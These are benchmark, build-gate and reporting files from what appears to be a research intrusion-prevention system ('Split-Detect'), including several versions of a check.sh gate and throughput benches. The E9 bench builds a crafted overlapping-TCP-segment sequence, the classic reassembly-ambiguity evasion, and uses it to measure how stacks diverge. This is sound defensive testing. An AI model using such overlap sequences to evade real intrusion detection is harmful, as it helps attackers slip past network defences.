    ("A4_runtime_scaling:runtime.lanes16.speedup",
     "runtime speedup @16 lanes"),
    ("A4_runtime_scaling:runtime.lanes16.disp2.aggregate_gbps",
     "sharded ingest @16 lanes, 2 dispatchers (Gbps)"),
    ("E2_state_memory:flows100000_ooo0.fast_over_conventional",
     "state vs conventional @100k flows (ratio)"),
    ("E11_inline_soak:inline_soak.verdict_p99_ns",
     "inline verdict latency p99 (ns)"),
    ("E11_inline_soak:inline_soak.pps", "inline soak throughput (pkts/s)"),
    ("A5_reload:reload.publish_to_adopted_ns", "rule publish→adopted (ns)"),
]


def load_snapshots(root):
    snaps = []
    for path in sorted(glob.glob(os.path.join(root, "BENCH_*.json"))):
        try:
            with open(path, encoding="utf-8") as f:
                doc = json.load(f)
        except (OSError, ValueError) as e:
            print(f"warning: skipping {path}: {e}", file=sys.stderr)
            continue
        if doc.get("schema") != "sdt-bench-snapshot/1":
            print(f"warning: skipping {path}: not a snapshot", file=sys.stderr)
            continue
        snaps.append((doc.get("date", os.path.basename(path)), path, doc))
    snaps.sort(key=lambda s: s[0])
    return snaps


def flatten(doc):
    """{'bench_id:metric': (value, mad_or_None)} for one snapshot."""
    out = {}
    for bid, bench in doc.get("benches", {}).items():
        for m in bench.get("metrics", []):
            out[f"{bid}:{m['name']}"] = (m["value"], m.get("mad"))
    return out


def fmt(cell):
    if cell is None:
        return "–"
    value, mad = cell
    if isinstance(value, float) and value != int(value):
        s = f"{value:.3g}"
    elif abs(value) >= 100000:
        s = f"{value:,.0f}"  # ns-scale counters: 2,591,240 not 2.59124e+06
    else:
        s = f"{value:g}"
    if mad is not None and mad != 0:
        s += f" ±{mad:.2g}"
    return s


def main():
    ap = argparse.ArgumentParser(
        description="markdown trajectory table from BENCH_*.json snapshots")
    ap.add_argument("--root", default=None,
                    help="repo root to scan (default: the script's parent)")
    ap.add_argument("--all", action="store_true",
                    help="every metric, not just the headline set")
    ap.add_argument("--bench", action="append", default=[],
                    help="restrict to one bench id (repeatable)")
    ap.add_argument("--metric", action="append", default=[],
                    help="fnmatch pattern on metric names (repeatable)")
    args = ap.parse_args()

    root = args.root or os.path.dirname(
        os.path.dirname(os.path.abspath(__file__)))
    snaps = load_snapshots(root)
    if not snaps:
        print(f"no BENCH_*.json snapshots under {root}", file=sys.stderr)
        return 1

    tables = [flatten(doc) for _, _, doc in snaps]
    all_keys = []
    seen = set()
    for t in tables:
        for k in t:
            if k not in seen:
                seen.add(k)
                all_keys.append(k)

    if args.bench or args.metric:
        rows = []
        for k in all_keys:
            bid, name = k.split(":", 1)
            if args.bench and bid not in args.bench:
                continue
            if args.metric and not any(
                    fnmatch.fnmatch(name, p) for p in args.metric):
                continue
            rows.append((k, k))
    elif args.all:
        rows = [(k, k) for k in all_keys]
    else:
        rows = []
        for pattern, label in HEADLINES:
            matched = [k for k in all_keys if fnmatch.fnmatch(k, pattern)]
            if matched:
                rows.append((matched[0], label))
            else:
                # Headline metric in no snapshot yet: keep the row so the
                # gap is visible once a snapshot gains it.
                rows.append((pattern, label))

    header = ["metric"] + [date for date, _, _ in snaps]
    print("| " + " | ".join(header) + " |")
    print("|" + "|".join(["---"] * len(header)) + "|")
    for key, label in rows:
        cells = [fmt(t.get(key)) for t in tables]
        print("| " + " | ".join([label] + cells) + " |")
    quick = [date for date, _, doc in snaps if doc.get("quick")]
    if quick:
        print()
        print(f"*quick-mode snapshots (CI sizing, not comparable): "
              f"{', '.join(quick)}*")
    return 0


if __name__ == "__main__":
    sys.exit(main())
