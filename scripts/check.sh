#!/usr/bin/env bash
# Tier-1 gate + concurrency gate + observability gate + fuzz gate, in one
# command:
#
#   1. configure + build + full ctest in ./build        (the tier-1 contract)
#   2. TSan build of the runtime in ./build-tsan and
#      ctest -L 'runtime|telemetry|control|slowpath|wire' under it (the
#      data-race gate: lanes, stats, rule-set hot-reload, the
#      lane-threads → slow-path-worker queue boundary, and the inline
#      VerdictRouter's verdict rings + conservation ledger)
#   2b. wire gates: a no-libpcap configure smoke (./build-nopcap with
#      both live backends forced OFF must still build sdt_wire and
#      ips_gateway — the file backend and VerdictRouter have no optional
#      deps), an inline-vs-tap parity check (ips_gateway on a golden
#      attack trace must emit the identical alert digest in both modes,
#      with the wire ledger conserved and shed == 0), and a
#      bench_inline_soak --quick smoke validated against the schema
#   3. bench_snapshot.sh --quick smoke: the bench suite must produce a
#      snapshot that validates against the documented schema
#      (docs/OBSERVABILITY.md), plus a bench_runtime_scaling --quick
#      smoke (the sharded-runtime conservation/verdict/arena asserts
#      under real threads)
#   4. fuzz-smoke: ASan+UBSan build in ./build-asan, a 10k-schedule
#      differential fuzz campaign (sdt_fuzz --quick --seed 1), a
#      mixed-framing campaign (--framing mixed: v6/vlan/qinq/vxlan/gre
#      re-framing plus the v4-vs-v6 verdict-parity crosscheck), ctest -L
#      fuzz under the sanitizers, the slow-path churn soak under ASan
#      (flow-table lifecycle leaks surface as growth), and the packet
#      arena slab-recycling tests under ASan (use-after-recycle must
#      fail loudly) (docs/TESTING.md)
#   5. match-kernel gate: ctest -L match under ASan+UBSan (the SIMD
#      prefilter and batched flat-DFA walk hit raw pointers and lane
#      gathers — equivalence bugs there must fail loudly, not corrupt),
#      plus a bench_match_kernels --quick --json smoke
#   5b. parse-once gate: ctest -L net under ASan+UBSan (EtherType
#      dispatch, VLAN strip, IPv6 extension walk, tunnel decap — a
#      decoder trusting a lying length field must fail loudly)
#   6. docs gate: scripts/check_docs.py validates every intra-repo
#      markdown link and anchor (docs rot fails the build, not review)
#
# The nightly soak is the same fuzzer run open-ended; see docs/TESTING.md:
#   ./build-asan/tools/sdt_fuzz --seconds 3600 --seed "$(date +%s)"
#
# Usage: scripts/check.sh [jobs]
set -euo pipefail

cd "$(dirname "$0")/.."
JOBS="${1:-$(nproc)}"

echo "== tier-1: configure + build =="
cmake -B build -S . >/dev/null
cmake --build build -j "${JOBS}"

echo "== tier-1: ctest =="
(cd build && ctest --output-on-failure -j "${JOBS}")

echo "== tsan: configure + build (SDT_SANITIZE=thread) =="
cmake -B build-tsan -S . -DSDT_SANITIZE=thread >/dev/null
cmake --build build-tsan -j "${JOBS}"

echo "== tsan: ctest -L 'runtime|telemetry|control|slowpath|wire' =="
(cd build-tsan && ctest -L 'runtime|telemetry|control|slowpath|wire' \
  --output-on-failure -j "${JOBS}")

echo "== wire: no-libpcap configure smoke (file backend + router only) =="
cmake -B build-nopcap -S . -DSDT_WITH_PCAP=OFF -DSDT_WITH_AFPACKET=OFF \
  >/dev/null
cmake --build build-nopcap -j "${JOBS}" --target sdt_wire ips_gateway \
  >/dev/null

echo "== wire: inline-vs-tap alert-digest parity (ips_gateway) =="
PARITY_PCAP=tests/data/inorder_attack.pcap
# The gateway prints a human preamble line before the JSON and exits 1
# when it alerts (which this attack trace must), hence tail -1 and ||.
(./build/examples/ips_gateway "${PARITY_PCAP}" --json || true) \
  | tail -1 > /tmp/sdt_parity_tap.json
(./build/examples/ips_gateway "${PARITY_PCAP}" --inline --json || true) \
  | tail -1 > /tmp/sdt_parity_inline.json
python3 - <<'EOF'
import json
tap = json.load(open('/tmp/sdt_parity_tap.json'))
inl = json.load(open('/tmp/sdt_parity_inline.json'))
def digest(doc):
    return sorted((a.get('signature_id', a.get('signature')),
                   a['ts_usec'], a['stream_offset']) for a in doc['alerts'])
assert digest(tap), 'parity trace produced no alerts'
assert digest(tap) == digest(inl), \
    f'inline alert digest diverges from tap: {digest(tap)} vs {digest(inl)}'
w = inl['wire']
assert w['conserved'], f'inline run not conserved: {w}'
assert w['shed'] == 0, f'inline parity run shed packets: {w}'
print(f"parity ok: {len(digest(tap))} alert(s), "
      f"{w['captured']} captured, conserved")
EOF
rm -f /tmp/sdt_parity_tap.json /tmp/sdt_parity_inline.json

echo "== wire: bench_inline_soak --quick smoke =="
SOAK_JSON="$(mktemp /tmp/sdt_soak_smoke.XXXXXX.json)"
./build/bench/bench_inline_soak --quick --json "${SOAK_JSON}" >/dev/null
python3 scripts/validate_bench_json.py "${SOAK_JSON}"
rm -f "${SOAK_JSON}"

echo "== bench snapshot smoke (--quick) =="
SMOKE="$(mktemp /tmp/sdt_bench_smoke.XXXXXX.json)"
trap 'rm -f "${SMOKE}"' EXIT
scripts/bench_snapshot.sh --quick --out "${SMOKE}" >/dev/null
python3 scripts/validate_bench_json.py "${SMOKE}"

echo "== runtime-scaling smoke (--quick) =="
./build/bench/bench_runtime_scaling --quick >/dev/null

echo "== asan+ubsan: configure + build (SDT_SANITIZE=address,undefined) =="
cmake -B build-asan -S . -DSDT_SANITIZE=address,undefined >/dev/null
cmake --build build-asan -j "${JOBS}"

echo "== fuzz-smoke: sdt_fuzz --schedules 10000 --quick --seed 1 =="
./build-asan/tools/sdt_fuzz --schedules 10000 --quick --seed 1 \
  --repro-dir /tmp/sdt_fuzz_smoke_repros >/dev/null

echo "== fuzz-smoke: sdt_fuzz --framing mixed (encap + verdict parity) =="
./build-asan/tools/sdt_fuzz --schedules 2500 --quick --seed 2 \
  --framing mixed \
  --repro-dir /tmp/sdt_fuzz_smoke_repros >/dev/null

echo "== fuzz-smoke: ctest -L fuzz (asan+ubsan) =="
(cd build-asan && ctest -L fuzz --output-on-failure -j "${JOBS}")

echo "== churn-soak smoke: slowpath lifecycle under asan =="
./build-asan/tests/slowpath_churn_soak_test >/dev/null

echo "== arena smoke: packet-arena slab recycling under asan =="
./build-asan/tests/runtime_packet_arena_test >/dev/null

echo "== match-kernel gate: ctest -L match (asan+ubsan) =="
(cd build-asan && ctest -L match --output-on-failure -j "${JOBS}")

echo "== parse-once gate: ctest -L net (asan+ubsan) =="
(cd build-asan && ctest -L net --output-on-failure -j "${JOBS}")

echo "== match-kernel gate: bench_match_kernels --quick smoke =="
MATCH_JSON="$(mktemp /tmp/sdt_match_smoke.XXXXXX.json)"
./build/bench/bench_match_kernels --quick --json "${MATCH_JSON}" >/dev/null
rm -f "${MATCH_JSON}"

echo "== docs gate: markdown link/anchor check =="
python3 scripts/check_docs.py

echo "== all checks passed =="
