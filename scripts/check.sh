#!/usr/bin/env bash
# Tier-1 gate + concurrency gate + observability gate + fuzz gate, in one
# command:
#
#   1. configure + build + full ctest in ./build        (the tier-1 contract)
#   2. TSan build of the runtime in ./build-tsan and
#      ctest -L 'runtime|telemetry|control|slowpath' under it (the
#      data-race gate: lanes, stats, rule-set hot-reload, and the
#      lane-threads → slow-path-worker queue boundary)
#   3. bench_snapshot.sh --quick smoke: the bench suite must produce a
#      snapshot that validates against the documented schema
#      (docs/OBSERVABILITY.md), plus a bench_runtime_scaling --quick
#      smoke (the sharded-runtime conservation/verdict/arena asserts
#      under real threads)
#   4. fuzz-smoke: ASan+UBSan build in ./build-asan, a 10k-schedule
#      differential fuzz campaign (sdt_fuzz --quick --seed 1), a
#      mixed-framing campaign (--framing mixed: v6/vlan/qinq/vxlan/gre
#      re-framing plus the v4-vs-v6 verdict-parity crosscheck), ctest -L
#      fuzz under the sanitizers, the slow-path churn soak under ASan
#      (flow-table lifecycle leaks surface as growth), and the packet
#      arena slab-recycling tests under ASan (use-after-recycle must
#      fail loudly) (docs/TESTING.md)
#   5. match-kernel gate: ctest -L match under ASan+UBSan (the SIMD
#      prefilter and batched flat-DFA walk hit raw pointers and lane
#      gathers — equivalence bugs there must fail loudly, not corrupt),
#      plus a bench_match_kernels --quick --json smoke
#   5b. parse-once gate: ctest -L net under ASan+UBSan (EtherType
#      dispatch, VLAN strip, IPv6 extension walk, tunnel decap — a
#      decoder trusting a lying length field must fail loudly)
#   6. docs gate: scripts/check_docs.py validates every intra-repo
#      markdown link and anchor (docs rot fails the build, not review)
#
# The nightly soak is the same fuzzer run open-ended; see docs/TESTING.md:
#   ./build-asan/tools/sdt_fuzz --seconds 3600 --seed "$(date +%s)"
#
# Usage: scripts/check.sh [jobs]
set -euo pipefail

cd "$(dirname "$0")/.."
JOBS="${1:-$(nproc)}"

echo "== tier-1: configure + build =="
cmake -B build -S . >/dev/null
cmake --build build -j "${JOBS}"

echo "== tier-1: ctest =="
(cd build && ctest --output-on-failure -j "${JOBS}")

echo "== tsan: configure + build (SDT_SANITIZE=thread) =="
cmake -B build-tsan -S . -DSDT_SANITIZE=thread >/dev/null
cmake --build build-tsan -j "${JOBS}"

echo "== tsan: ctest -L 'runtime|telemetry|control|slowpath' =="
(cd build-tsan && ctest -L 'runtime|telemetry|control|slowpath' \
  --output-on-failure -j "${JOBS}")

echo "== bench snapshot smoke (--quick) =="
SMOKE="$(mktemp /tmp/sdt_bench_smoke.XXXXXX.json)"
trap 'rm -f "${SMOKE}"' EXIT
scripts/bench_snapshot.sh --quick --out "${SMOKE}" >/dev/null
python3 scripts/validate_bench_json.py "${SMOKE}"

echo "== runtime-scaling smoke (--quick) =="
./build/bench/bench_runtime_scaling --quick >/dev/null

echo "== asan+ubsan: configure + build (SDT_SANITIZE=address,undefined) =="
cmake -B build-asan -S . -DSDT_SANITIZE=address,undefined >/dev/null
cmake --build build-asan -j "${JOBS}"

echo "== fuzz-smoke: sdt_fuzz --schedules 10000 --quick --seed 1 =="
./build-asan/tools/sdt_fuzz --schedules 10000 --quick --seed 1 \
  --repro-dir /tmp/sdt_fuzz_smoke_repros >/dev/null

echo "== fuzz-smoke: sdt_fuzz --framing mixed (encap + verdict parity) =="
./build-asan/tools/sdt_fuzz --schedules 2500 --quick --seed 2 \
  --framing mixed \
  --repro-dir /tmp/sdt_fuzz_smoke_repros >/dev/null

echo "== fuzz-smoke: ctest -L fuzz (asan+ubsan) =="
(cd build-asan && ctest -L fuzz --output-on-failure -j "${JOBS}")

echo "== churn-soak smoke: slowpath lifecycle under asan =="
./build-asan/tests/slowpath_churn_soak_test >/dev/null

echo "== arena smoke: packet-arena slab recycling under asan =="
./build-asan/tests/runtime_packet_arena_test >/dev/null

echo "== match-kernel gate: ctest -L match (asan+ubsan) =="
(cd build-asan && ctest -L match --output-on-failure -j "${JOBS}")

echo "== parse-once gate: ctest -L net (asan+ubsan) =="
(cd build-asan && ctest -L net --output-on-failure -j "${JOBS}")

echo "== match-kernel gate: bench_match_kernels --quick smoke =="
MATCH_JSON="$(mktemp /tmp/sdt_match_smoke.XXXXXX.json)"
./build/bench/bench_match_kernels --quick --json "${MATCH_JSON}" >/dev/null
rm -f "${MATCH_JSON}"

echo "== docs gate: markdown link/anchor check =="
python3 scripts/check_docs.py

echo "== all checks passed =="
