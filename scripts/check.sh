#!/usr/bin/env bash
# Tier-1 gate + concurrency gate + observability gate, in one command:
#
#   1. configure + build + full ctest in ./build        (the tier-1 contract)
#   2. TSan build of the runtime in ./build-tsan and
#      ctest -L 'runtime|telemetry' under it            (the data-race gate)
#   3. bench_snapshot.sh --quick smoke: the bench suite must produce a
#      snapshot that validates against the documented schema
#      (docs/OBSERVABILITY.md)
#
# Usage: scripts/check.sh [jobs]
set -euo pipefail

cd "$(dirname "$0")/.."
JOBS="${1:-$(nproc)}"

echo "== tier-1: configure + build =="
cmake -B build -S . >/dev/null
cmake --build build -j "${JOBS}"

echo "== tier-1: ctest =="
(cd build && ctest --output-on-failure -j "${JOBS}")

echo "== tsan: configure + build (SDT_SANITIZE=thread) =="
cmake -B build-tsan -S . -DSDT_SANITIZE=thread >/dev/null
cmake --build build-tsan -j "${JOBS}"

echo "== tsan: ctest -L 'runtime|telemetry' =="
(cd build-tsan && ctest -L 'runtime|telemetry' --output-on-failure -j "${JOBS}")

echo "== bench snapshot smoke (--quick) =="
SMOKE="$(mktemp /tmp/sdt_bench_smoke.XXXXXX.json)"
trap 'rm -f "${SMOKE}"' EXIT
scripts/bench_snapshot.sh --quick --out "${SMOKE}" >/dev/null
python3 scripts/validate_bench_json.py "${SMOKE}"

echo "== all checks passed =="
