// E9 — Overlap-policy ambiguity (the Ptacek-Newsham root cause).
//
// Paper dependency: the reason reassembly must be *normalizing* (and why
// Split-Detect's slow path alerts on conflicting retransmissions) is that
// the same hostile segment sequence yields different byte streams on
// different stacks. This bench replays one crafted conversation against all
// six reassembly policies and reports the divergence.
#include <map>

#include "bench_util.hpp"
#include "reassembly/tcp_reassembler.hpp"
#include "util/hash.hpp"
#include "util/rng.hpp"

using namespace sdt;

namespace {

/// Hostile sequence: holes, equal-start rewrites, extensions, covers.
struct HostileSegment {
  std::uint32_t seq;
  Bytes data;
};

std::vector<HostileSegment> hostile_conversation(Rng& rng) {
  std::vector<HostileSegment> segs;
  std::uint32_t base = 1000;
  // In-order prefix.
  segs.push_back({base, rng.random_bytes(200)});
  // Hole at [1200,1201), then a contested region [1201, 1601):
  Bytes version_a = rng.random_bytes(400);
  Bytes version_b = rng.random_bytes(400);
  segs.push_back({base + 201, version_a});
  // Equal-start rewrite.
  segs.push_back({base + 201, version_b});
  // Partial overlap starting earlier (covers the hole + 100 bytes).
  segs.push_back({base + 200, rng.random_bytes(101)});
  // Extension past the end.
  segs.push_back({base + 551, rng.random_bytes(200)});
  // Tail.
  segs.push_back({base + 751, rng.random_bytes(100)});
  return segs;
}

}  // namespace

int main(int argc, char** argv) {
  const bench::Options opt = bench::Options::parse(argc, argv);
  bench::JsonReport rep("E9_overlap_policies", "reassembly-policy divergence",
                        opt);
  bench::banner("E9: reassembly-policy divergence",
                "identical packets, different stacks, different streams — "
                "the ambiguity that defeats non-normalizing detection");

  constexpr reassembly::TcpOverlapPolicy kPolicies[] = {
      reassembly::TcpOverlapPolicy::first, reassembly::TcpOverlapPolicy::last,
      reassembly::TcpOverlapPolicy::bsd,   reassembly::TcpOverlapPolicy::linux_,
      reassembly::TcpOverlapPolicy::windows,
      reassembly::TcpOverlapPolicy::solaris};

  std::printf("%9s | %18s %9s %12s %12s\n", "policy", "stream digest",
              "bytes", "conflicts", "overlaps");
  std::printf("----------+--------------------------------------------------\n");

  Rng seed_rng(9);
  const auto segs = hostile_conversation(seed_rng);

  std::map<std::uint64_t, int> digests;
  for (const auto policy : kPolicies) {
    reassembly::TcpReassemblerConfig cfg;
    cfg.policy = policy;
    reassembly::TcpReassembler r(cfg);
    r.add(999, {}, true, false);  // SYN pins stream start at 1000
    Bytes stream;
    std::uint64_t overlaps = 0;
    for (const auto& s : segs) {
      const auto ev = r.add(s.seq, s.data, false, false);
      overlaps += ev.overlap ? 1 : 0;
      const Bytes chunk = r.read_available();
      stream.insert(stream.end(), chunk.begin(), chunk.end());
    }
    const std::uint64_t digest = fnv1a64(stream);
    ++digests[digest];
    std::printf("%9s |   0x%016llx %7zu %12llu %12llu\n",
                to_string(policy), static_cast<unsigned long long>(digest),
                stream.size(),
                static_cast<unsigned long long>(r.conflicting_bytes()),
                static_cast<unsigned long long>(overlaps));
  }

  std::printf("\ndistinct reconstructions across 6 policies: %zu\n",
              digests.size());
  rep.metric("distinct_reconstructions", static_cast<double>(digests.size()),
             "streams");
  std::printf(
      "expected shape: >= 3 distinct streams from identical packets. Any\n"
      "matcher bound to one interpretation is blind on stacks using the\n"
      "others; Split-Detect's slow path instead raises a normalizer-\n"
      "conflict alert the moment two contents contest one byte range.\n");
  return rep.write() ? 0 : 1;
}
