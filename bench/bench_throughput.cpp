// E3 — Processing cost and line-rate feasibility.
//
// Paper claim: "processing ... requirements of this scheme can be 10% of
// that required by a conventional IPS, allowing reasonable cost
// implementations at 20 Gbps" (where conventional IPS stalls above 10 Gbps).
//
// Method: replay the identical benign trace through each detector N times,
// each pass on a *fresh* detector (flow state must not leak between
// passes), and report the median ± MAD of ns/byte — the robust pair that
// replaces the old best-of-5 (a best-of systematically understates cost and
// hides run-to-run noise). Absolute numbers are host-dependent; the paper's
// claim is the *ratio* between the architectures.
#include <memory>

#include "bench_util.hpp"
#include "sim/cost_model.hpp"
#include "sim/line_rate.hpp"
#include "sim/replay.hpp"

using namespace sdt;

int main(int argc, char** argv) {
  const bench::Options opt = bench::Options::parse(argc, argv);
  bench::JsonReport rep("E3_throughput",
                        "processing cost & 20 Gbps feasibility", opt);
  bench::banner("E3: processing cost & 20 Gbps feasibility",
                "\"processing requirements can be 10% of a conventional "
                "IPS, allowing reasonable cost implementations at 20 Gbps\"");

  const core::SignatureSet sigs = evasion::default_corpus(16);
  const auto trace =
      bench::standard_benign(opt.sized(600, 120), /*reorder=*/0.002);
  const std::size_t runs = opt.runs(7, 3);
  std::printf("workload: %zu packets, %s, %zu flows, 0.2%% reordering; "
              "%zu timed runs per detector (median ± MAD)\n\n",
              trace.packets.size(),
              human_bytes(static_cast<double>(trace.total_bytes)).c_str(),
              trace.flows, runs);

  std::printf("%-18s %16s %16s %12s %11s %11s\n", "detector", "ns/pkt",
              "ns/byte", "Gbps/core", "cores@10G", "cores@20G");
  std::printf("%-18s %16s %16s %12s %11s %11s\n", "------------------",
              "----------------", "----------------", "------------",
              "-----------", "-----------");

  // Median-of-N ns/byte for a detector family; every sample replays on a
  // fresh instance so flow state never leaks between passes.
  const auto timed = [&](const char* key, auto make) {
    const bench::Repeated nspb = bench::repeat(runs, [&] {
      auto det = make();
      return sim::replay(*det, trace.packets).ns_per_byte();
    });
    std::vector<double> per_pkt;
    for (const double s : nspb.samples) {
      per_pkt.push_back(s * static_cast<double>(trace.total_bytes) /
                        static_cast<double>(trace.packets.size()));
    }
    const bench::Repeated nspp = bench::summarize(std::move(per_pkt));
    const double gbps = nspb.median > 0 ? 8.0 / nspb.median : 0.0;
    const auto e10 = sim::cores_for_line_rate(10.0, nspb.median);
    const auto e20 = sim::cores_for_line_rate(20.0, nspb.median);
    std::printf("%-18s %16s %16s %12.2f %11.2f %11.2f\n", key,
                bench::pm(nspp, "%.0f").c_str(),
                bench::pm(nspb, "%.3f").c_str(), gbps, e10.cores_needed,
                e20.cores_needed);
    rep.metric(std::string(key) + ".ns_per_byte", nspb, "ns/B");
    rep.metric(std::string(key) + ".gbps_per_core", gbps, "Gbps");
    return nspb.median;
  };

  timed("naive", [&] { return std::make_unique<sim::NaivePerPacketDetector>(sigs); });
  const double conv_nspb =
      timed("conventional", [&] { return std::make_unique<sim::ConventionalDetector>(sigs); });
  const double sd_nspb = timed("split_detect", [&] {
    core::SplitDetectConfig cfg;
    cfg.fast.piece_len = 8;
    return std::make_unique<sim::SplitDetectDetector>(sigs, cfg);
  });
  // Ablation: same engine with the SIMD prefilter + staged scan disabled —
  // isolates how much of split-detect's wall-clock win the match kernels
  // contribute vs the architecture itself.
  const double sd_nopre_nspb = timed("split_no_prefilter", [&] {
    core::SplitDetectConfig cfg;
    cfg.fast.piece_len = 8;
    cfg.fast.use_prefilter = false;
    return std::make_unique<sim::SplitDetectDetector>(sigs, cfg);
  });

  std::printf(
      "\nsoftware wall-clock, split-detect / conventional: %.0f%%\n"
      "(on a CPU the byte scan dominates BOTH paths, so wall-clock cannot\n"
      "separate the architectures — the paper's 10%% is about line-card\n"
      "hardware where stateful DRAM work dominates; see the model below)\n",
      100.0 * sd_nspb / conv_nspb);
  rep.metric("split_over_conventional_wallclock", sd_nspb / conv_nspb, "ratio");
  std::printf("prefilter ablation: with %.3f ns/B vs without %.3f ns/B "
              "(kernels buy %.0f%%)\n",
              sd_nspb, sd_nopre_nspb,
              100.0 * (1.0 - sd_nspb / sd_nopre_nspb));
  rep.metric("split_prefilter_speedup", sd_nopre_nspb / sd_nspb, "ratio");

  // ---- hardware cost model (the paper's framing) -------------------------
  // Operation counts are deterministic for the seeded trace, so the model
  // needs no repeats — it is arithmetic over exact tallies.
  std::printf("\nhardware-model cost (measured op counts x modeled budgets:\n"
              "DRAM access 50ns, fast-memory access 10ns, DRAM stream 0.25ns/B,\non-chip scan 0.05ns/B — see sim/cost_model.hpp for the accounting):\n\n");
  std::printf("%-24s %14s %14s %9s\n", "configuration", "modeled ms",
              "ns/byte", "vs conv");
  std::printf("%-24s %14s %14s %9s\n", "------------------------",
              "--------------", "--------------", "---------");

  const sim::HardwareCostModel hw;
  double conv_model_ns = 0.0;
  {
    sim::ConventionalDetector conv(sigs);
    sim::replay(conv, trace.packets);
    conv_model_ns = sim::conventional_cost_ns(conv.ips().stats(), hw);
    std::printf("%-24s %14.2f %14.3f %8.1f%%\n", "conventional-ips",
                conv_model_ns / 1e6,
                conv_model_ns / static_cast<double>(trace.total_bytes), 100.0);
    rep.metric("model.conventional.ns_per_byte",
               conv_model_ns / static_cast<double>(trace.total_bytes), "ns/B");
  }
  for (const std::size_t p : {8u, 12u, 16u}) {
    core::SplitDetectConfig cfg;
    cfg.fast.piece_len = p;
    const core::SignatureSet psigs = evasion::default_corpus(2 * p);
    sim::SplitDetectDetector sd(psigs, cfg);
    sim::replay(sd, trace.packets);
    const double ns = sim::splitdetect_cost_ns(sd.engine().stats_snapshot(), hw);
    char label[32];
    std::snprintf(label, sizeof label, "split-detect (p=%zu)", p);
    std::printf("%-24s %14.2f %14.3f %8.1f%%\n", label, ns / 1e6,
                ns / static_cast<double>(trace.total_bytes),
                100.0 * ns / conv_model_ns);
    char key[48];
    std::snprintf(key, sizeof key, "model.split_detect_p%zu.vs_conventional",
                  p);
    rep.metric(key, ns / conv_model_ns, "ratio");
  }

  std::printf(
      "\npaper: ~10%%. Expected shape: the modeled ratio lands near 10%%\n"
      "once the piece length keeps benign diversion low (p=16); at small p\n"
      "chance piece hits divert flows whose double (fast+slow) processing\n"
      "erodes the advantage — exactly the trade-off E4/E5 quantify.\n");
  return rep.write() ? 0 : 1;
}
