// E3 — Processing cost and line-rate feasibility.
//
// Paper claim: "processing ... requirements of this scheme can be 10% of
// that required by a conventional IPS, allowing reasonable cost
// implementations at 20 Gbps" (where conventional IPS stalls above 10 Gbps).
//
// Method: replay the identical benign trace through each detector several
// times (hot caches, like a steady-state appliance), take the best run, and
// convert ns/byte into sustainable Gbps per core and cores needed for
// 10/20 Gbps. Absolute numbers are host-dependent; the paper's claim is the
// *ratio* between the architectures.
#include <algorithm>
#include <memory>

#include "bench_util.hpp"
#include "sim/cost_model.hpp"
#include "sim/line_rate.hpp"
#include "sim/replay.hpp"

using namespace sdt;

namespace {

/// Best of N runs, each on a *fresh* detector: flow state from a previous
/// pass must not leak into the measurement (a reused Split-Detect instance
/// would see every replayed flow as a sequence anomaly and divert it).
template <typename MakeDetector>
sim::ReplayResult best_of(MakeDetector make,
                          const std::vector<net::Packet>& pkts, int runs) {
  sim::ReplayResult best;
  for (int i = 0; i < runs; ++i) {
    auto det = make();
    const sim::ReplayResult r = sim::replay(*det, pkts);
    if (best.wall_ns == 0 || r.wall_ns < best.wall_ns) best = r;
  }
  return best;
}

}  // namespace

int main() {
  bench::banner("E3: processing cost & 20 Gbps feasibility",
                "\"processing requirements can be 10% of a conventional "
                "IPS, allowing reasonable cost implementations at 20 Gbps\"");

  const core::SignatureSet sigs = evasion::default_corpus(16);
  const auto trace = bench::standard_benign(600, /*reorder=*/0.002);
  std::printf("workload: %zu packets, %s, %zu flows, 0.2%% reordering\n\n",
              trace.packets.size(),
              human_bytes(static_cast<double>(trace.total_bytes)).c_str(),
              trace.flows);

  std::printf("%-18s %10s %10s %12s %11s %11s\n", "detector", "ns/pkt",
              "ns/byte", "Gbps/core", "cores@10G", "cores@20G");
  std::printf("%-18s %10s %10s %12s %11s %11s\n", "------------------",
              "----------", "----------", "------------", "-----------",
              "-----------");

  double conv_nspb = 0.0, sd_nspb = 0.0;
  auto report = [&](auto make) {
    const sim::ReplayResult r = best_of(make, trace.packets, 5);
    const auto e10 = sim::cores_for_line_rate(10.0, r.ns_per_byte());
    const auto e20 = sim::cores_for_line_rate(20.0, r.ns_per_byte());
    std::printf("%-18s %10.1f %10.3f %12.2f %11.2f %11.2f\n",
                r.detector.c_str(), r.ns_per_packet(), r.ns_per_byte(),
                r.gbps_per_core(), e10.cores_needed, e20.cores_needed);
    return r.ns_per_byte();
  };

  report([&] { return std::make_unique<sim::NaivePerPacketDetector>(sigs); });
  conv_nspb =
      report([&] { return std::make_unique<sim::ConventionalDetector>(sigs); });
  sd_nspb = report([&] {
    core::SplitDetectConfig cfg;
    cfg.fast.piece_len = 8;
    return std::make_unique<sim::SplitDetectDetector>(sigs, cfg);
  });

  std::printf(
      "\nsoftware wall-clock, split-detect / conventional: %.0f%%\n"
      "(on a CPU the byte scan dominates BOTH paths, so wall-clock cannot\n"
      "separate the architectures — the paper's 10%% is about line-card\n"
      "hardware where stateful DRAM work dominates; see the model below)\n",
      100.0 * sd_nspb / conv_nspb);

  // ---- hardware cost model (the paper's framing) -------------------------
  std::printf("\nhardware-model cost (measured op counts x modeled budgets:\n"
              "DRAM access 50ns, fast-memory access 10ns, DRAM stream 0.25ns/B,\non-chip scan 0.05ns/B — see sim/cost_model.hpp for the accounting):\n\n");
  std::printf("%-24s %14s %14s %9s\n", "configuration", "modeled ms",
              "ns/byte", "vs conv");
  std::printf("%-24s %14s %14s %9s\n", "------------------------",
              "--------------", "--------------", "---------");

  const sim::HardwareCostModel hw;
  double conv_model_ns = 0.0;
  {
    sim::ConventionalDetector conv(sigs);
    sim::replay(conv, trace.packets);
    conv_model_ns = sim::conventional_cost_ns(conv.ips().stats(), hw);
    std::printf("%-24s %14.2f %14.3f %8.1f%%\n", "conventional-ips",
                conv_model_ns / 1e6,
                conv_model_ns / static_cast<double>(trace.total_bytes), 100.0);
  }
  for (const std::size_t p : {8u, 12u, 16u}) {
    core::SplitDetectConfig cfg;
    cfg.fast.piece_len = p;
    const core::SignatureSet psigs = evasion::default_corpus(2 * p);
    sim::SplitDetectDetector sd(psigs, cfg);
    sim::replay(sd, trace.packets);
    const double ns = sim::splitdetect_cost_ns(sd.engine().stats_snapshot(), hw);
    char label[32];
    std::snprintf(label, sizeof label, "split-detect (p=%zu)", p);
    std::printf("%-24s %14.2f %14.3f %8.1f%%\n", label, ns / 1e6,
                ns / static_cast<double>(trace.total_bytes),
                100.0 * ns / conv_model_ns);
  }

  std::printf(
